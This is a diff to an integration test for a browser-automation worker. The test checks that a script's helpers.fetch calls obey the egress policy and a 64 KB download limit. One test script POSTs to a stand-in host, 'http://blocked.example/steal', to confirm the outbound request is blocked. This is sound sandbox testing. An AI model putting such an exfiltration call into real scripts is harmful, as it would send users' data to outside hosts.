@@ -13,6 +13,9 @@ import { compileSteps } from '../../src/control-plane/flows/compile.ts';
 import { setSession, signedJob, testOrg } from '../execution-plane/support/jobs.ts';
 import { startWorkerHarness, type WorkerHarness } from '../execution-plane/support/worker-harness.ts';
 
+/** WORKER_MAX_DOWNLOAD_BYTES of the test's worker, and a response over it. */
+const MAX_DOWNLOAD_BYTES = 64 * 1024;
+const BIG_BYTES = MAX_DOWNLOAD_BYTES + 1;
 const PER_PAGE = 2;
 const PAGES = 3;
 /** The documents of February 2026, type factura: three pages of two. */
@@ -77,6 +80,10 @@ async function startPortal(): Promise<Portal> {
       });
       return;
     }
+    if (url.pathname === '/big') {
+      res.writeHead(200, { 'content-type': 'application/octet-stream' });
+      return res.end(Buffer.alloc(BIG_BYTES, 65));
+    }
     if (url.pathname === '/api/ping') {
       res.writeHead(200, { 'content-type': 'application/json' });
       return res.end('{"ok":true}');
@@ -107,7 +114,11 @@ describe('the step language on a real worker', () => {
   let h: WorkerHarness;
   let portal: Portal;
   before(async () => {
-    [h, portal] = await Promise.all([startWorkerHarness(), startPortal()]);
+    [h, portal] = await Promise.all([startWorkerHarness({
+      WORKER_MAX_DOWNLOAD_BYTES: String(MAX_DOWNLOAD_BYTES),
+      // Some thirty page round trips and sixteen files: room for a busy machine (the harness's default is 20 s).
+      EXECUTION_TIMEOUT: '150000', PLAYWRIGHT_TIMEOUT: '30000',
+    }), startPortal()]);
   });
   after(async () => {
     await Promise.all([h?.stop(), portal?.close()]);
@@ -142,7 +153,7 @@ describe('the step language on a real worker', () => {
 
     const orgId = testOrg('steps');
     await setSession(h.redis, orgId, 'user-1', h.session());
-    const r = await h.run(orgId, signedJob(orgId, script, { metadata: { month: '02', typeLabel: 'Factura' } }), 60_000);
+    const r = await h.run(orgId, signedJob(orgId, script, { metadata: { month: '02', typeLabel: 'Factura' }, maxAttempts: 1 }), 180_000);
     assert.equal(r.status, 'done', JSON.stringify(r.error));
 
     // select: the search ran with the metadata's month (by value) and type (by label).
@@ -187,5 +198,29 @@ describe('the step language on a real worker', () => {
     const r = await h.run(orgId, signedJob(orgId, script, { metadata: { year: 2026 } }), 60_000);
     assert.equal(r.status, 'failed');
     assert.match(r.error?.message ?? '', /metadata has no value for month/);
+  });
+
+  it('makes helpers.fetch obey the egress policy and the download size limit, as the page\'s own requests do', async () => {
+    // Hand-written: the compiler would refuse the host; a script still cannot reach it through the page.
+    const script = `export default async function run({ page, payload, helpers }) {
+  await page.goto(payload.base + '/search');
+  try {
+    await helpers.fetch('http://blocked.example/steal', { method: 'POST', body: 'x' });
+    helpers.setResult({ blocked: 'no' });
+  } catch (e) {
+    helpers.setResult({ blocked: e.message });
+  }
+  await helpers.fetch(payload.base + '/big', { saveAs: 'big.bin' });
+}
+`;
+    const orgId = testOrg('steps-fetch');
+    await setSession(h.redis, orgId, 'user-1', h.session());
+    const r = await h.run(orgId, signedJob(orgId, script, { metadata: { base: portal.url } }), 60_000);
+    assert.equal(r.status, 'failed');
+    assert.equal(r.error?.code, 'SCRIPT_RESOURCE_LIMIT', JSON.stringify(r.error));
+    assert.match(r.error?.message ?? '', /helpers\.fetch: the response of GET http:\/\/127\.0\.0\.1:\d+\/big is over 65536 bytes/);
+    assert.equal((r.artifacts ?? []).filter((a) => a.kind === 'download').length, 0, 'nothing kept');
+    const data = JSON.parse((await h.object(r.files.parsedData)).toString()) as { blocked: string };
+    assert.match(data.blocked, /helpers\.fetch: POST http:\/\/blocked\.example\/steal (failed in the page|answered 4\d\d)/);
   });
 });
